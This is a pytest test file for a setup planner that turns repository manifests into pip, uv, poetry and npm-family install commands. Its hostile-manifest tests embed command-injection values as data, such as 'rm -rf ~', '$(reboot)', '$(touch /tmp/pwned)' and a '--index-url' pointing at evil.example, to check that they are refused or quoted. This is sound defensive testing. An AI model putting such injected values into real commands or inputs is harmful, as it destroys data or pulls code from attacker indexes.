"""Environment detection: which steps a repository's files call for, what is described and
what defines the cache key, for many repository shapes, hostile manifests included."""

from __future__ import annotations

import shlex

import pytest

from bot.core.env_detect import READ_FILES, RepoFiles, SetupPlan, WorkerTools, plan_setup
from bot.core.env_parsed import read_manifests

ENV = "/data/envs/acme-1f/0a"
VENV = f"{ENV}/venv"
PY = "/usr/bin/python3.11"
PIP = f"{VENV}/bin/python -m pip install"
MAKE_VENV = f"{PY} -m venv {VENV}"
MAKE_BARE_VENV = f"{PY} -m venv --without-pip {VENV}"
ALL_TOOLS = WorkerTools(
    PY,
    "3.11.7",
    {t: f"/opt/bin/{t}" for t in ("uv", "poetry", "npm", "pnpm", "yarn")},
)
NO_TOOLS = WorkerTools(PY, "3.11.7", {})

PROJECT_WITH_EXTRAS = """
[project]
name = "acme"
version = "1.0"
[project.optional-dependencies]
docs = ["sphinx"]
Test = ["pytest", "freezegun"]
DEV = ["ruff"]
"""
GROUPS_ONLY = """
[dependency-groups]
test = ["pytest>=8", {include-group = "lint"}]
lint = ["ruff"]
dev = [{include-group = "test"}, "coverage[toml]"]
docs = ["sphinx"]
"""
POETRY = """
[tool.poetry]
name = "acme"
[tool.poetry.group.test.dependencies]
pytest = "*"
[tool.poetry.group.docs.dependencies]
sphinx = "*"
"""


def plan(
    files: dict[str, str], tools: WorkerTools = ALL_TOOLS, setup: str | None = None
) -> SetupPlan:
    texts = {name: text for name, text in files.items() if name in READ_FILES}
    manifests = read_manifests(texts, "setup.py" in files)
    return plan_setup(RepoFiles(frozenset(files), manifests), tools, ENV, setup)


def commands(setup_plan: SetupPlan) -> list[str]:
    return [step.command_line() for step in setup_plan.steps]


CASES = [
    (
        "empty repository",
        {},
        NO_TOOLS,
        [],
        "nothing to set up: no Python or Node manifests found",
        (),
    ),
    (
        "no manifests",
        {"README.md": "", "src/x.py": ""},
        ALL_TOOLS,
        [],
        "nothing to set up: no Python or Node manifests found",
        (),
    ),
    (
        "requirements files, nested ones ignored",
        {
            "requirements.txt": "",
            "requirements-dev.txt": "",
            "test-requirements.txt": "",
            "docs/requirements.txt": "",
        },
        NO_TOOLS,
        [MAKE_VENV, f"{PIP} -r requirements-dev.txt -r requirements.txt -r test-requirements.txt"],
        "Python 3.11 virtualenv, pip install -r requirements-dev.txt, -r requirements.txt, -r test-requirements.txt",
        ("requirements-dev.txt", "requirements.txt", "test-requirements.txt"),
    ),
    (
        "pyproject with test extras (names normalized, order fixed)",
        {"pyproject.toml": PROJECT_WITH_EXTRAS},
        NO_TOOLS,
        [MAKE_VENV, f"{PIP} -e '.[test,dev]'"],
        "Python 3.11 virtualenv, pip install the project (.[test,dev])",
        ("pyproject.toml",),
    ),
    (
        "build-system only plus setup.py",
        {"pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n', "setup.py": ""},
        NO_TOOLS,
        [MAKE_VENV, f"{PIP} -e ."],
        "Python 3.11 virtualenv, pip install the project (.)",
        ("pyproject.toml", "setup.py"),
    ),
    (
        "setup.py with setup.cfg extras",
        {"setup.py": "", "setup.cfg": "[options.extras_require]\ntesting = pytest\nall = x\n"},
        NO_TOOLS,
        [MAKE_VENV, f"{PIP} -e '.[testing]'"],
        "Python 3.11 virtualenv, pip install the project (.[testing])",
        ("setup.cfg", "setup.py"),
    ),
    (
        "tool-only pyproject is not a project",
        {"pyproject.toml": "[tool.ruff]\nline-length = 100\n"},
        ALL_TOOLS,
        [],
        "nothing to set up: no Python or Node manifests found",
        (),
    ),
    (
        "PEP 735 groups resolved with includes, no project",
        {"pyproject.toml": GROUPS_ONLY},
        NO_TOOLS,
        [MAKE_VENV, f"{PIP} -- 'pytest>=8' ruff 'coverage[toml]'"],
        "Python 3.11 virtualenv, pip install dependency groups test, dev",
        ("pyproject.toml",),
    ),
    (
        "requirements, project and groups in one pip run",
        {"requirements.txt": "", "pyproject.toml": PROJECT_WITH_EXTRAS + GROUPS_ONLY},
        NO_TOOLS,
        [
            MAKE_VENV,
            f"{PIP} -r requirements.txt -e '.[test,dev]' -- 'pytest>=8' ruff 'coverage[toml]'",
        ],
        "Python 3.11 virtualenv, pip install -r requirements.txt, the project (.[test,dev]), dependency groups test, dev",
        ("pyproject.toml", "requirements.txt"),
    ),
    (
        "uv.lock with uv",
        {
            "uv.lock": "",
            "requirements.txt": "",
            "pyproject.toml": PROJECT_WITH_EXTRAS + GROUPS_ONLY,
        },
        ALL_TOOLS,
        [
            MAKE_BARE_VENV,
            f"/opt/bin/uv sync --frozen --python {VENV}/bin/python --extra test --extra dev --group test --group dev",
        ],
        "Python 3.11 virtualenv, uv sync --frozen from uv.lock (extra test, extra dev, group test, group dev)",
        ("pyproject.toml", "uv.lock"),
    ),
    (
        "uv.lock without uv falls back to pip",
        {"uv.lock": "", "pyproject.toml": PROJECT_WITH_EXTRAS},
        NO_TOOLS,
        [MAKE_VENV, f"{PIP} -e '.[test,dev]'"],
        "Python 3.11 virtualenv, pip install the project (.[test,dev]); skipped uv.lock: uv is not on the worker, installed with pip instead",
        ("pyproject.toml",),
    ),
    (
        "poetry.lock with poetry",
        {"poetry.lock": "", "pyproject.toml": POETRY},
        ALL_TOOLS,
        [MAKE_VENV, "/opt/bin/poetry install --no-interaction --with test"],
        "Python 3.11 virtualenv, poetry install from poetry.lock (groups test)",
        ("poetry.lock", "pyproject.toml"),
    ),
    (
        "poetry.lock without poetry falls back to pip",
        {"poetry.lock": "", "pyproject.toml": POETRY},
        NO_TOOLS,
        [MAKE_VENV, f"{PIP} -e ."],
        "Python 3.11 virtualenv, pip install the project (.); skipped poetry.lock: poetry is not on the worker, installed with pip instead",
        ("pyproject.toml",),
    ),
    (
        "npm lock",
        {"package.json": '{"devDependencies": {"jest": "1"}}', "package-lock.json": ""},
        ALL_TOOLS,
        ["/opt/bin/npm ci --no-audit --no-fund"],
        "Node: npm ci --no-audit --no-fund from package-lock.json",
        ("package-lock.json", "package.json"),
    ),
    (
        "pnpm lock without pnpm",
        {"package.json": "{}", "pnpm-lock.yaml": ""},
        NO_TOOLS,
        [],
        "nothing to set up: no Python or Node manifests found; skipped Node: pnpm is not on the worker (pnpm-lock.yaml)",
        (),
    ),
    (
        "packageManager picks yarn among two locks",
        {
            "package.json": '{"packageManager": "yarn@1.22.19"}',
            "package-lock.json": "",
            "yarn.lock": "",
        },
        ALL_TOOLS,
        ["/opt/bin/yarn install --frozen-lockfile"],
        "Node: yarn install --frozen-lockfile from yarn.lock",
        ("package.json", "yarn.lock"),
    ),
    (
        "package.json without dependencies or lock",
        {"package.json": '{"name": "x"}'},
        ALL_TOOLS,
        [],
        "nothing to set up: no Python or Node manifests found",
        (),
    ),
    (
        "package.json with dependencies and no lock",
        {"package.json": '{"dependencies": {"left-pad": "1"}}'},
        ALL_TOOLS,
        ["/opt/bin/npm install --no-audit --no-fund"],
        "Node: npm install --no-audit --no-fund from package.json (no lock file)",
        ("package.json",),
    ),
    (
        "Python and Node together",
        {"setup.py": "", "package.json": "{}", "pnpm-lock.yaml": ""},
        ALL_TOOLS,
        [MAKE_VENV, f"{PIP} -e .", "/opt/bin/pnpm install --frozen-lockfile"],
        "Python 3.11 virtualenv, pip install the project (.); Node: pnpm install --frozen-lockfile from pnpm-lock.yaml",
        ("package.json", "pnpm-lock.yaml", "setup.py"),
    ),
    (
        "setup_command wins over detection",
        {
            "uv.lock": "",
            "pyproject.toml": PROJECT_WITH_EXTRAS,
            "requirements.txt": "",
            "package.json": "{}",
        },
        ALL_TOOLS,
        [MAKE_VENV, "make deps && pip install -e ."],
        "Python 3.11 virtualenv, setup_command from .github/orchestrate.yml",
        ("package.json", "pyproject.toml", "requirements.txt", "uv.lock"),
    ),
]


@pytest.mark.parametrize(
    ("files", "tools", "expected", "description", "inputs"),
    [case[1:] for case in CASES],
    ids=[case[0] for case in CASES],
)
def test_repository_shapes(
    files: dict[str, str],
    tools: WorkerTools,
    expected: list[str],
    description: str,
    inputs: tuple[str, ...],
) -> None:
    """Each shape gets its steps in order, a one-line description and the key's inputs."""
    setup = "make deps && pip install -e ." if "setup_command" in description else None
    result = plan(files, tools, setup)
    assert commands(result) == expected
    assert result.description == description
    assert result.inputs == inputs
    assert result.empty is (expected == [])


def test_the_bundled_pip_wheel_installs_into_a_venv_without_pip() -> None:
    """With the interpreter's bundled pip wheel, the venv is made without pip and pip runs
    from the wheel; a setup_command's venv keeps pip (the command may call it)."""
    wheel = "/usr/lib/python3.11/ensurepip/_bundled/pip-23.2.1-py3-none-any.whl"
    tools = WorkerTools(PY, "3.11.7", {}, pip_wheel=wheel)
    files = {"requirements.txt": "", "pyproject.toml": PROJECT_WITH_EXTRAS}
    assert commands(plan(files, tools)) == [
        MAKE_BARE_VENV,
        f"{VENV}/bin/python {wheel}/pip install -r requirements.txt -e '.[test,dev]'",
    ]
    assert commands(plan(files, tools, "make deps")) == [MAKE_VENV, "make deps"]


def test_plan_environment_and_mounts() -> None:
    """A Python+Node plan exposes the venv (VIRTUAL_ENV, PATH) and node_modules' mount."""
    result = plan(
        {
            "uv.lock": "",
            "pyproject.toml": PROJECT_WITH_EXTRAS,
            "package.json": "{}",
            "yarn.lock": "",
        }
    )
    assert result.env == {
        "VIRTUAL_ENV": VENV,
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "UV_PROJECT_ENVIRONMENT": VENV,
        "UV_PYTHON_DOWNLOADS": "never",
    }
    assert result.path == (f"{VENV}/bin", f"{ENV}/node_modules/.bin")
    assert result.worktree_mounts == ("node_modules",)
    assert result.tools == ("python", "uv", "yarn")


HOSTILE = [
    (
        "invalid TOML still installs the project, without extras",
        {"pyproject.toml": "[project\nname = ", "setup.py": ""},
        [MAKE_VENV, f"{PIP} -e ."],
        "pyproject.toml could not be read (TOMLDecodeError): extras and groups ignored",
    ),
    (
        "huge pyproject is not parsed",
        {"pyproject.toml": "[project]\n" + "# x\n" * 200_000, "setup.py": ""},
        [MAKE_VENV, f"{PIP} -e ."],
        "pyproject.toml is larger than 256 KiB: not read",
    ),
    (
        "deeply nested TOML exhausts no stack",
        {"pyproject.toml": "a = " + "[" * 100_000, "setup.py": ""},
        [MAKE_VENV, f"{PIP} -e ."],
        "pyproject.toml could not be read (RecursionError): extras and groups ignored",
    ),
    (
        "extras with shell metacharacters are never selected",
        {
            "pyproject.toml": '[project]\nname="x"\n[project.optional-dependencies]\n"test; rm -rf ~" = []\n"dev`id`" = []\n"$(reboot)" = []\n'
        },
        [MAKE_VENV, f"{PIP} -e ."],
        None,
    ),
    (
        "a group requirement that is an option is refused",
        {
            "pyproject.toml": '[dependency-groups]\ntest = ["--index-url=http://evil.example/simple", "pytest"]\n'
        },
        [],
        "dependency groups not installed: group 'test' has a requirement that is not a plain PEP 508 one",
    ),
    (
        "a path or URL requirement is refused",
        {"pyproject.toml": '[dependency-groups]\ndev = ["./evil", "pytest"]\n', "setup.py": ""},
        [MAKE_VENV, f"{PIP} -e ."],
        "dependency groups not installed: group 'dev' has a requirement that is not a plain PEP 508 one",
    ),
    (
        "include cycle",
        {
            "pyproject.toml": '[dependency-groups]\ntest = [{include-group = "a"}]\na = [{include-group = "test"}]\n'
        },
        [],
        "dependency groups not installed: include-group cycle through 'test'",
    ),
    (
        "unknown include with a hostile name",
        {"pyproject.toml": '[dependency-groups]\ntest = [{include-group = "@admin <b>x</b>"}]\n'},
        [],
        "dependency groups not installed: include-group names an unknown group '?admin??b?x??b?'",
    ),
    (
        "two groups that normalize alike",
        {"pyproject.toml": '[dependency-groups]\nTest = ["a"]\ntest = ["b"]\n'},
        [],
        "dependency groups not installed: two groups normalize to 'test'",
    ),
    (
        "a group that is not a list",
        {"pyproject.toml": '[dependency-groups]\ntest = "pytest"\n'},
        [],
        "dependency groups not installed: group 'test' is not a list",
    ),
    (
        "too many requirements",
        {
            "pyproject.toml": "[dependency-groups]\ntest = ["
            + ", ".join(f'"p{n}"' for n in range(600))
            + "]\n"
        },
        [],
        "dependency groups not installed: more than 500 requirements",
    ),
    (
        "a long include chain",
        {
            "pyproject.toml": "[dependency-groups]\ntest = [{include-group = 'g0'}]\n"
            + "".join(f"g{n} = [{{include-group = 'g{n + 1}'}}]\n" for n in range(200))
            + "g200 = ['x']\n"
        },
        [],
        "dependency groups not installed: include-group chains deeper than 32",
    ),
    (
        "requirements files with unusual names are ignored",
        {"requirements;rm -rf ~.txt": "", "requirements$(id).txt": "", "requirements.txt": ""},
        [MAKE_VENV, f"{PIP} -r requirements.txt"],
        "ignored 2 requirements file(s) whose names are not plain",
    ),
    (
        "invalid package.json with a lock still runs npm ci",
        {"package.json": "{not json", "package-lock.json": ""},
        ["/opt/bin/npm ci --no-audit --no-fund"],
        "package.json could not be read (JSONDecodeError): extras and groups ignored",
    ),
    (
        "invalid setup.cfg",
        {"setup.py": "", "setup.cfg": "no section header\n"},
        [MAKE_VENV, f"{PIP} -e ."],
        "setup.cfg could not be read (MissingSectionHeaderError): its extras ignored",
    ),
]


@pytest.mark.parametrize(
    ("files", "expected", "note"), [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE]
)
def test_hostile_manifests(files: dict[str, str], expected: list[str], note: str | None) -> None:
    """Hostile manifests give a safe plan and, where something was ignored, one exact note."""
    result = plan(files)
    assert commands(result) == expected
    assert list(result.notes) == ([note] if note else [])
    if note:
        assert result.description.endswith(f"; {note}")


def test_diamond_includes_resolve_quickly() -> None:
    """Thirty levels of groups that each include the next one twice resolve once per group."""
    lines = ["[dependency-groups]", "test = [{include-group = 'g0'}, {include-group = 'g0'}]"]
    lines += [
        f"g{n} = [{{include-group = 'g{n + 1}'}}, {{include-group = 'g{n + 1}'}}, 'p{n}']"
        for n in range(30)
    ]
    lines.append("g30 = ['leaf']")
    result = plan({"pyproject.toml": "\n".join(lines) + "\n"})
    assert commands(result)[1] == f"{PIP} -- leaf " + " ".join(f"p{n}" for n in reversed(range(30)))


@pytest.mark.parametrize(
    "requirement",
    [
        "pytest; python_version > '3' $(touch /tmp/pwned)",
        "x @ https://example.org/x.whl; echo `id`",
        "pkg[a,b]>=1 ; os_name == 'posix' && reboot",
    ],
)
def test_group_requirements_are_single_quoted_arguments(requirement: str) -> None:
    """A requirement with shell metacharacters stays one argv element and its rendering
    quotes it: splitting the command line gives back exactly the argv."""
    result = plan({"pyproject.toml": f"[dependency-groups]\ntest = [{requirement!r}]\n"})
    step = result.steps[1]
    assert step.argv[-1] == requirement
    assert shlex.split(step.command_line()) == list(step.argv)
